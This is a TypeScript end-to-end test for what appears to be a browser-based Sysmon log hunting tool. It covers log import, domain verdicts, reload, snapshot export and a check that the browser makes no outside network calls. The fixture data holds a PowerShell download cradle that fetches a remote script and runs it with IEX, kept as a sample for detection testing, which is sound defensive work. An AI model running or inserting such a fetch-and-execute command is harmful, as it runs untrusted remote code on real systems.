import { readFile } from 'node:fs/promises';
import { mkdtempSync, rmSync } from 'node:fs';
import { networkInterfaces, tmpdir } from 'node:os';
import { join } from 'node:path';
import { configure, TextReader, Uint8ArrayWriter, ZipWriter } from '@zip.js/zip.js';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { drop, exportSnapshot, type Misdeeds, noMisdeeds, openPage, phase, servePage, type ServedPage } from './open-page';

const powershell = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const guid = '{11111111-2222-3333-4444-555555555555}';
const common = { Channel: 'Microsoft-Windows-Sysmon/Operational', SourceName: 'Microsoft-Windows-Sysmon', Hostname: 'WS-0417', ProcessGuid: guid, ProcessId: '4242', Image: powershell, User: 'ACME\\j.doe' };
const downloadCradle = "powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('https://raw.githubusercontent.com/x/y/z.ps1')\"";

const events = [
  { ...common, EventID: 3, UtcTime: '2024-06-01 10:00:02.000', Initiated: 'true', DestinationIp: '185.199.108.133', DestinationHostname: '-' },
  { ...common, EventID: 22, UtcTime: '2024-06-01 10:00:01.500', QueryName: 'raw.githubusercontent.com', QueryStatus: '0', QueryResults: 'type:  5 github.map.fastly.net;::ffff:185.199.108.133;' },
  { ...common, EventID: 22, UtcTime: '2024-06-01 10:05:00.000', QueryName: 'beacon.replica-example.xyz', QueryStatus: '0', QueryResults: '::ffff:203.0.113.7;' },
];
const processStarts = [{ ...common, EventID: 1, UtcTime: '2024-06-01 10:00:00.000', CommandLine: downloadCradle }];

const lines = (records: readonly object[]): string => records.map((record) => `${JSON.stringify(record)}\r\n`).join('');

async function zipOf(files: Readonly<Record<string, string>>): Promise<Uint8Array> {
  configure({ useWebWorkers: false });
  const zip = new ZipWriter(new Uint8ArrayWriter());
  for (const [name, text] of Object.entries(files)) await zip.add(name, new TextReader(text));
  return zip.close();
}

/** What Chromium asks for by itself, whatever page is open. */
const ownServices = ['accounts.google.com', 'update.googleapis.com', 'clients2.google.com'];

/**
 * Hosts and addresses in the browser's own log of its network that are neither the page's nor this machine's nor asked
 * for by the browser itself (its services, and the address that it tries to see whether there is IPv6).
 */
function strangersIn(netLog: string): readonly string[] {
  const local = Object.values(networkInterfaces()).flatMap((addresses) => addresses?.map(({ address }) => address) ?? []);
  const known = ['localhost', '127.0.0.1', '::1', '~notfound', '2001:4860:4860::8888', ...local, ...ownServices];
  const named = [...netLog.matchAll(/"(?:host|url|address)":"(?:[a-z]+:\/\/)?(\[[0-9a-f:]+\]|[^"/:]+)/g)].map(([, host]) => host!.replace(/[[\]]/g, ''));
  return [...new Set(named)].filter((host) => !known.includes(host) && !/^(?:data|blob|about|chrome|devtools|file)$/.test(host));
}

/** The whole job of a hunter: drop, join, judge, reload, hand on, open again. And all of it without a word to anybody. */
describe('a Sysmon log, from drop to hand-over', () => {
  const folder = mkdtempSync(join(tmpdir(), 'seldom-'));
  const netLog = join(folder, 'net-log.json');
  let served: ServedPage;
  let page: Page;
  let misdeeds: Misdeeds;

  beforeAll(async () => {
    served = await servePage(`--log-net-log=${netLog}`, '--net-log-capture-mode=Everything');
    ({ page, misdeeds } = await openPage(served));
    await drop(page, [
      { name: 'logs.zip', content: await zipOf({ 'events.json': lines(events), 'starts.json': lines(processStarts), '__MACOSX/._events.json': '\0\0' }) },
      { name: 'list.txt', content: '# made for this test\nbeacon.replica-example.xyz\n' },
    ]);
  });
  afterAll(async () => {
    await served.close();
    rmSync(folder, { recursive: true, force: true });
  });

  test('joins names and arguments, and the receipt adds up', async () => {
    const { snapshot } = await exportSnapshot(page, { everything: true });
    const log = snapshot.import.find(({ name }) => name === 'logs.zip');
    expect(log).toMatchObject({ kind: 'log', records: 4, events: 2, skipped: { joined: 1, 'process-start': 1 }, rejected: {} });
    expect(log?.recognised).toMatchObject({ network: 1, dns: 2, process: 1 });
    const github = snapshot.domains.find(({ baseDomain }) => baseDomain === 'githubusercontent.com');
    expect(github).toMatchObject({ group: 'powershell', connections: 1, hosts: 1, verdict: 'unreviewed' });
    expect(github?.fqdns[0]?.arguments?.[0]).toMatchObject({ arguments: downloadCradle, connections: 1 });
    const beacon = snapshot.domains.find(({ baseDomain }) => baseDomain === 'replica-example.xyz');
    expect(beacon).toMatchObject({ verdict: 'malicious', verdictSource: 'intel' });
  });

  test('takes verdicts from the keyboard and undoes them', async () => {
    await page.keyboard.press('2');
    await page.locator('[data-testid=domain-row][data-domain="githubusercontent.com"]').click();
    await page.getByTestId('domain-detail').waitFor();
    await page.getByTestId('domain-detail').getByText('DownloadString').first().waitFor();
    await page.keyboard.press('m');
    await phase(page, 'ready');
    expect((await verdictOf(page)).verdict).toBe('malicious');
    await page.keyboard.press('u');
    await phase(page, 'ready');
    expect((await verdictOf(page)).verdict).toBe('unreviewed');
    await page.keyboard.press('m');
    await phase(page, 'ready');
  });

  test('survives a reload', async () => {
    await page.getByTestId('save-state').filter({ hasText: 'kept' }).waitFor();
    await page.reload();
    await phase(page, 'ready');
    expect(await verdictOf(page)).toMatchObject({ verdict: 'malicious', verdictSource: 'review' });
  });

  test('opens from its snapshot with every figure equal, and without what was left out', async () => {
    const before = await exportSnapshot(page, { everything: false });
    for (const secret of ['WS-0417', 'j.doe', 'DownloadString']) expect(before.text).not.toContain(secret);
    const other = await openPage(served);
    // A tab of its own starts without an analysis.
    await phase(other.page, 'empty');
    await drop(other.page, [{ name: 'colleague.json', content: before.text }]);
    const after = await exportSnapshot(other.page);
    // The seal is on the time of the export too.
    expect({ ...after.snapshot, createdAt: '', sha256: '' }).toEqual({ ...before.snapshot, createdAt: '', sha256: '' });
    for (const key of ['1', '2', '3', '4', '5', '6']) {
      await other.page.keyboard.press(key);
      await phase(other.page, 'ready');
    }
    expect(other.misdeeds).toEqual(noMisdeeds);
    await other.page.close();
  });

  test('spoke to nobody, by the browser\'s own log of its network', async () => {
    expect(misdeeds).toEqual(noMisdeeds);
    await served.browser.close();
    const log = await readFile(netLog, 'utf8');
    expect(log.length).toBeGreaterThan(1000);
    expect(strangersIn(log)).toEqual([]);
  });
});

async function verdictOf(page: Page): Promise<{ verdict: string | undefined; verdictSource: string | undefined }> {
  const { snapshot } = await exportSnapshot(page);
  const domain = snapshot.domains.find(({ baseDomain }) => baseDomain === 'githubusercontent.com');
  return { verdict: domain?.verdict, verdictSource: domain?.verdictSource };
}
